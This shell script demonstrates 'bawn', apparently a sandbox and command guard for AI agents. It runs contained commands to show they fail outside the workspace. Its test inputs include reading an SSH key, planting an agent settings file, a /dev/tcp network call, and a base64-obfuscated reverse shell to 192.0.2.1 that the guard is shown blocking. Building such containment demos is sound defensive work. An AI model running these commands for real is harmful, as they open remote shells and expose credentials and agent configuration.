#!/bin/sh
# What bawn does, shown in a minute: a command that works in its workspace and is stopped everywhere else.
set -u
bawn=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then bold=$(printf '\033[1m'); plain=$(printf '\033[0m'); else bold= plain=; fi
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
mkdir -p "$dir/home/.ssh" "$dir/workspace" "$dir/outside"
echo "-----BEGIN DEMO KEY-----" > "$dir/home/.ssh/id_demo"
echo "do not touch" > "$dir/outside/file"
cd "$dir/workspace" || exit 1
export HOME="$dir/home" XDG_STATE_HOME="$dir/state" XDG_CONFIG_HOME="$dir/config" XDG_CACHE_HOME="$dir/cache"

show() { # title, options, command
    printf '\n%s%s%s\n' "$bold" "$1" "$plain"
    # shellcheck disable=SC2086
    printf '$ bawn run%s -- sh -c %s\n' "$2" "'$3'"
    # shellcheck disable=SC2086
    "$bawn" run $2 -- sh -c "$3" 2>&1 | sed 's/^/    /'
}

show "It works in the workspace" "" 'echo "hello" > note && cat note && pwd'
show "Keys in the home directory are not there" "" 'cat ~/.ssh/id_demo'
show "A file outside is out of reach" "" "echo changed > $dir/outside/file"
show "The agent's own configuration cannot be planted" "" 'mkdir .claude && echo "{}" > .claude/settings.json'
show "There is no network" "" 'bash -c "echo hello > /dev/tcp/192.0.2.1/80"'
show "Memory has a limit for the whole tree" " --memory 64m" 'head -c 300m /dev/zero | tail > /dev/null'
show "Time has a limit" " --timeout 500ms" 'sleep 60'

show "A network that the policy names, and no other" " --net allowlist --allow-host *.example.org" \
    'python3 -c "import urllib.request as u; u.urlopen(\"http://not-allowed.example.com/\")" 2>&1 | tail -1'
show "Secrets in output are masked" "" 'echo "key: AKIA""2E0A8F3B244C9986"'

printf 'enforcement: {enabled: true}\n' > "$dir/policy.yaml"
vet() { # title, command
    printf '\n%s%s%s\n$ bawn guard -- sh -c %s\n' "$bold" "$1" "$plain" "'$2'"
    "$bawn" guard --policy "$dir/policy.yaml" -- sh -c "$2" 2>&1 | sed 's/^/    /'
}
vet "guard lets through what is safe" 'ls -a'
vet "and blocks what is malicious, however it is written" 'eval "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOTkgMD4mMQ== | base64 -d)"'

printf '\n%sNothing changed outside:%s %s\n' "$bold" "$plain" "$(cat "$dir/outside/file")"
printf '\n%sAnd all of it is on record%s\n$ bawn audit show\n' "$bold" "$plain"
"$bawn" audit show | sed 's/^/    /'
printf '$ bawn audit verify\n'
"$bawn" audit verify | sed 's/^/    /'
